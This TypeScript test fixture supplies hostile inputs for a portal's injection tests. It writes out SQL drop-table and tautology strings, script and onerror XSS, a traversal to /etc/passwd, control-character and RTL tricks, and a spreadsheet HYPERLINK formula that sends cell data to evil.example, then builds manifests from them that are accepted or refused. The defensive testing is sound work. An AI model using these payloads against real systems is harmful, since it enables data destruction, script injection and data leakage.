/*
 * The hostile input of the injection tests (injection.*.test.ts): the strings,
 * by what they try; the MicroApp manifests made of them, accepted and
 * refused; how Trellis stores and shows each; and the OTLP attributes that
 * carry them.
 */
import type { MicroAppEntity } from '@trellis/plugin-microapps-common';
import fs from 'fs';
import path from 'path';
import { parse as parseYaml } from 'yaml';
import { EXAMPLES_DIR } from './startTestPortal';

export const SERVICE_TOKEN = 'injection-service-token-0123456789';
/** The example portal's security fixture, which the browser test opens (e2e/scenarios/injection.ts). */
export const fixtureFile = path.join(
  EXAMPLES_DIR,
  'hostile',
  'hostile-microapps.yaml',
);
export const fixture = parseYaml(
  fs.readFileSync(fixtureFile, 'utf8'),
) as MicroAppEntity;

/** Hostile strings, by what they try. */
export const HOSTILE: Array<[label: string, value: string]> = [
  ['sql', "'; DROP TABLE microapps_approvals; --"],
  ['sql-tautology', "' OR '1'='1' --"],
  ['script', '<script>window.__pwned=1</script>'],
  ['img-onerror', '<img src=x onerror="window.__pwned=1">'],
  ['path-traversal', '../../../../etc/passwd'],
  ['percent-nul', 'report%00.pdf'],
  [
    'control-characters',
    'bell\u0007 esc\u001b[31mred\u001b[0m crlf\r\nX-Injected: 1',
  ],
  ['rtl-override', 'invoice\u202Efdp.exe'],
  ['csv-formula', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ['long', '\u202E<script>'.repeat(1000)],
];
/** NUL goes through OTLP (stored as U+FFFD); manifests come from YAML files and carry none here. */
export const OTLP_HOSTILE: Array<[label: string, value: string]> = [
  ...HOSTILE,
  ['nul', 'nul\u0000inside'],
];

/** How Trellis stores OTLP attribute text (policyFindings.ts `text`). */
export const storedAttribute = (value: string) =>
  value.trim().slice(0, 200).replaceAll('\u0000', '\ufffd');
/** Manifest strings are limited to 255 characters (MicroApp schema): the long case is cut to fit. */
export const fit = (value: string) => value.slice(0, 255);
export const resourceRef = (value: string) => `resource:${value}`.slice(0, 200);
/** Chargeback cells a spreadsheet would run as a formula are prefixed with `'` (`defuseFormula`). */
export const csvShown = (value: string) =>
  value.startsWith('=') ? `'${value}` : value;

export function hostileApp(label: string, value: string): MicroAppEntity {
  return {
    apiVersion: 'trellis.dev/v1alpha1',
    kind: 'MicroApp',
    metadata: {
      name: `injection-${label}`,
      title: value,
      description: value,
      tags: ['security-fixture', 'injection'],
    },
    spec: {
      type: 'other',
      lifecycle: 'draft',
      owner: 'group:default/finance-ops',
      version: '0.0.1',
      costCenter: fit(value),
      reach: 'single-user',
      data: { classifications: ['public'], pii: 'none' },
      connectors: [
        { name: fit(value), exposure: 'internal', access: 'read' },
        // A Resource ref: kept under 200 characters, because the catalog stores the ref it
        // resolves to (`resource:default/…`) in a 255-character column on PostgreSQL.
        { name: resourceRef(value), exposure: 'internal', access: 'read' },
      ],
      models: ['azure-gpt-4.1-mini'],
      dependencies: { risk: 'minimal' },
      egress: ['api.example.com'],
    },
  } as MicroAppEntity;
}
export const accepted = HOSTILE.map(([label, value]) =>
  hostileApp(label, value),
);
/** Two manifests the catalog must refuse, each for one hostile field. */
export const refusedTag = {
  ...hostileApp('refused-tag', 'x'),
  metadata: { name: 'injection-refused-tag', tags: ['<script>'] },
};
export const refusedEgress = hostileApp('refused-egress', 'x');
refusedEgress.spec.egress = ['../../../../etc/passwd'];
/** A Resource ref whose stored form (resource:default/…) would not fit the catalog's 255 characters. */
export const refusedConnector = hostileApp('refused-connector', 'x');
refusedConnector.spec.connectors = [
  {
    name: `resource:'; DROP TABLE relations; --${'x'.repeat(215)}`,
    exposure: 'internal',
    access: 'read',
  },
];

/** A minimal RFC 4180 reader: quoted cells, doubled quotes, CRLF inside quotes. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

export type KeyValue = {
  key: string;
  value: { stringValue: string } | { intValue: string };
};
export const str = (key: string, value: string): KeyValue => ({
  key,
  value: { stringValue: value },
});
const int = (key: string, value: number): KeyValue => ({
  key,
  value: { intValue: String(value) },
});
/** The attributes of a GenAI span: one chat call to this model. */
export const modelCall = (model: string, extra: KeyValue[] = []) => [
  str('gen_ai.operation.name', 'chat'),
  str('gen_ai.request.model', model),
  int('gen_ai.usage.input_tokens', 1000),
  int('gen_ai.usage.output_tokens', 100),
  ...extra,
];
